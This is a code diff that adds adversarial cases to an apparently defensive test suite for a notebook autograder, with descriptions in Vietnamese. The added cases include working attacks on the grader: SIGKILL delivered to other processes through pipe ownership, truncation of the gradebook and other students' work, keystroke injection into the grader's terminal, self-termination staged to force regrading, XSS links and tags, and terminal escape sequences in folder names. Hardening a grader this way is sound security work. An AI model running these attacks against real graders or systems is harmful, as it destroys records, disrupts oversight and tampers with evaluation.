@@ -263,6 +263,9 @@ CODE = {
             import numpy as np
             WRONG = np.broadcast_to(np.int8(1), (1_000_000, 1_000_000))
         """),
+        "one_long_among_short": ("Một chuỗi dài giữa trăm nghìn chuỗi ngắn: bên nhận đổi thành mảng thì hết bộ nhớ.", """
+            WRONG = ["x" * 300_000, *["x"] * 100_000]
+        """),
         "changes_with_time": ("Giá trị đổi giữa lúc kiểm tra và lúc so sánh.", """
             class Later(dict):
                 turn = 0
@@ -373,6 +376,16 @@ CODE = {
             worker = sys.modules.get("worker")
             if worker: worker.Notebook.run = lambda self, source: [{"error": text, "message": text, "traceback": []}] * 25
         """),
+        "other_encoding": ("Khung dữ liệu viết bằng UTF-16 mang nửa một cặp mã, bên nhận ghi ra thì lỗi và cả lớp dừng.", """
+            import json
+            real = json.dumps
+            class Text(str):
+                def encode(self, *args): return str.encode(self, "utf-16-le", "surrogatepass")
+            json.dumps = lambda message, **k: Text(real(message, ensure_ascii=False).replace("NUA", "\\ud800"))
+            print("NUA")
+            WRONG = "NUA"
+            def calculate_z(*args): raise ValueError("NUA")
+        """),
         "closes_everything": ("Không có câu trả lời thì không có lỗi.", """
             import os
             os.closerange(0, 1024)
@@ -428,6 +441,34 @@ CODE = {
             while True:
                 try: time.sleep(10 ** 6)
                 except BaseException: pass
+        """),
+        "ends_as_from_outside": ("Tự dừng sao cho trông như bị dừng từ ngoài, để cứ được chấm lại mãi.", """
+            import ctypes, fcntl, os, resource, signal, struct, time
+            libc = ctypes.CDLL(None)
+            def timer():
+                event = ctypes.create_string_buffer(struct.pack("Pii", 0, signal.SIGKILL, 0) + bytes(64))
+                number = ctypes.c_void_p()
+                soon = struct.pack("llll", 0, 0, 0, 10_000_000)
+                if libc.timer_create(0, event, ctypes.byref(number)) == 0: libc.timer_settime(number, 0, soon, None)
+            def owner():
+                read, write = os.pipe()
+                fcntl.fcntl(read, fcntl.F_SETOWN, os.getpid()); fcntl.fcntl(read, fcntl.F_SETSIG, signal.SIGKILL)
+                fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC); os.write(write, b"x")
+            def child():
+                if os.fork() == 0:
+                    try: os.kill(os.getppid(), signal.SIGKILL)
+                    finally: os._exit(0)
+            def end_of_child():
+                if (made := libc.syscall(56, signal.SIGKILL, 0, 0, 0, 0)) == 0: os._exit(0)
+            def little_time():
+                resource.setrlimit(resource.RLIMIT_CPU, (1, 1))
+                end = time.process_time() + 3
+                while time.process_time() < end: pass
+            for way in (timer, owner, child, end_of_child, little_time, lambda: signal.raise_signal(signal.SIGTERM),
+                        lambda: os.kill(0, signal.SIGKILL), lambda: os.kill(os.getpid(), signal.SIGKILL)):
+                try: way()
+                except (OSError, ValueError): pass
+                time.sleep(0.05)
         """),
         "raises_strange_things": ("Ngoại lệ mà cứ in ra là lại gây lỗi.", """
             class Strange(BaseException):
@@ -561,6 +602,37 @@ CODE = {
                 for change in (lambda p: os.chmod(p, 0o777), lambda p: os.utime(p, (0, 0)), lambda p: os.chown(p, os.getuid(), -1)):
                     try: change(path); print("STOLEN mode of", path)
                     except OSError: pass
+        """),
+        "owner_of_a_pipe": ("Nhờ nhân Linux gửi tín hiệu giết tới bộ chấm, qua chủ của một ống (`F_SETOWN`).", """
+            import fcntl, os, signal
+            for pid in [os.getppid(), *range(2, 3000)]:
+                if pid == os.getpid(): continue
+                read, write = os.pipe()
+                try:
+                    fcntl.fcntl(read, fcntl.F_SETSIG, signal.SIGKILL)
+                    fcntl.fcntl(read, fcntl.F_SETOWN, pid)
+                    fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC)
+                    os.write(write, b"x")
+                except OSError: pass
+                os.close(read), os.close(write)
+        """),
+        "empties_files": ("Sổ điểm và bài của bạn khác bị cắt còn 0 byte mà không cần mở để ghi.", """
+            import os
+            ways = (lambda p: os.truncate(p, 0), lambda p: os.open(p, os.O_RDONLY | os.O_TRUNC), lambda p: os.open(p, os.O_ACCMODE | os.O_TRUNC))
+            for name in ("gradebook.db", "grading_seed", "nbgrader_config.py", "submitted/@HONEST@/@LESSON@/@LESSON@.ipynb"):
+                for way in ways:
+                    try: way("@COURSE@/" + name)
+                    except OSError: pass
+        """),
+        "types_into_terminal": ("Gõ lệnh vào cửa sổ dòng lệnh của người chấm, với số lệnh dài 64 bit.", """
+            import ctypes, os
+            libc = ctypes.CDLL(None)
+            files = list(range(10))
+            try: files.append(os.open("/dev/tty", os.O_RDWR))
+            except OSError: pass
+            for file in files:
+                for command in (0x5412, 0x5412 | 1 << 32):
+                    if libc.ioctl(file, ctypes.c_ulong(command), b"#") == 0: print("STOLEN terminal")
         """),
         "escapes_box": ("Thoát ra bằng không gian tên mới hoặc `chroot`.", """
             import ctypes, os
@@ -704,10 +776,29 @@ def _huge_metadata(notebook):
 
 
 def _html(notebook):
-    script = "<script>fetch('http://127.0.0.1')</script><img src=x onerror=alert(1)>"
+    script = "<script>fetch('http://127.0.0.1/STOLEN')</script><img src=x onerror=alert('STOLEN')>"
     notebook.cells.insert(0, new_markdown_cell(script))
     for cell in _cells(notebook, "check-"):
-        cell.outputs = [new_output("display_data", {"text/html": script, "application/javascript": "alert(1)"})]
+        cell.outputs = [new_output("display_data", {"text/html": script, "application/javascript": "alert('STOLEN')"})]
+
+
+def _links(notebook):
+    """What a Markdown cell may hold that runs when the page is opened, or a link in it is pressed."""
+    links = ("javascript:alert('STOLEN')", "&#106;avascript:alert('STOLEN')", "JaVa\tScript:alert('STOLEN')",
+             "data:text/html,<script>alert('STOLEN')</script>", "vbscript:STOLEN")  # fmt: skip
+    text = "\n\n".join([*(f"[bài làm]({link})" for link in links), *(f"<a href=\"{link}\">bài làm</a>" for link in links),
+                        "<svg onload=\"alert('STOLEN')\"></svg>", "<iframe srcdoc=\"<script>alert('STOLEN')</script>\"></iframe>"])  # fmt: skip
+    notebook.cells.insert(0, new_markdown_cell(text))
+    notebook.cells.append(new_markdown_cell(text))
+
+
+def _no_attachment(notebook):
+    notebook.cells.insert(0, new_markdown_cell("![ảnh](attachment:anh.png)"))
+
+
+def _blank_lines(notebook):
+    for _ in range(50):
+        notebook.cells.append(new_code_cell("\n" * 20_000 + "1"))
 
 
 def _check_turned_into_answer(notebook):
@@ -734,6 +825,9 @@ FORGERIES = {
     "own_grade_cell": ("Thêm một ô chấm điểm của riêng mình.", _own_grade_cell),
     "huge_metadata": ("Siêu dữ liệu khổng lồ làm bộ chấm bị treo.", _huge_metadata),
     "many_marks": ("Một chữ cái mang nửa triệu dấu làm bộ chấm bị treo.", _many_marks),
+    "blank_lines": ("Năm mươi ô, mỗi ô hai mươi nghìn dòng trống, làm trang phản hồi tô màu mã hàng giờ.", _blank_lines),
+    "links_that_run": ("Liên kết `javascript:` và `data:` chạy mã trong trình duyệt của người chấm.", _links),
+    "missing_attachment": ("Ảnh dán mà không có tệp kèm làm trang của bài không mở được.", _no_attachment),
     "html_and_script": ("Mã chạy trong trình duyệt của người chấm.", _html),
 }
 
@@ -789,6 +883,11 @@ def _in_the_folder(release, right, fill):
     yield attack("student_no_text", "Tên thư mục không phải UTF-8, sổ điểm không ghi được và cả lượt chấm dừng.", student=os.fsdecode(b"sv\xff\xfe"))
     yield attack("student_too_long", "Mã sinh viên dài hơn chỗ dành cho nó trong sổ điểm.", student="x" * 200)
     yield attack("student_like_markup", "Tên thư mục trông như mã định dạng.", student="[red]sv[bold]<b>")
+    yield attack("student_unfinished", "Tên thư mục trùng tên thư mục tạm của bộ chấm, cả lượt chấm dừng.", student=".unfinished")
+    yield attack("student_replaced", "Tên thư mục trùng tên chỗ cất bài cũ của bộ chấm, cả lượt chấm dừng.", student=".replaced")
+    yield attack("student_speaks_to_terminal", "Tên thư mục mang lệnh của cửa sổ dòng lệnh: đổi tên cửa sổ, xóa bảng điểm.",
+                 student="sv\x1b]0;STOLEN\x07\x1b[2J\x1b[1;1H")
+    yield attack("student_runs", "Tên thư mục là mã chạy trong trình duyệt của người chấm.", student="<img src=x onerror=alert('STOLEN')>")
 
 
 def _shadows(folder):
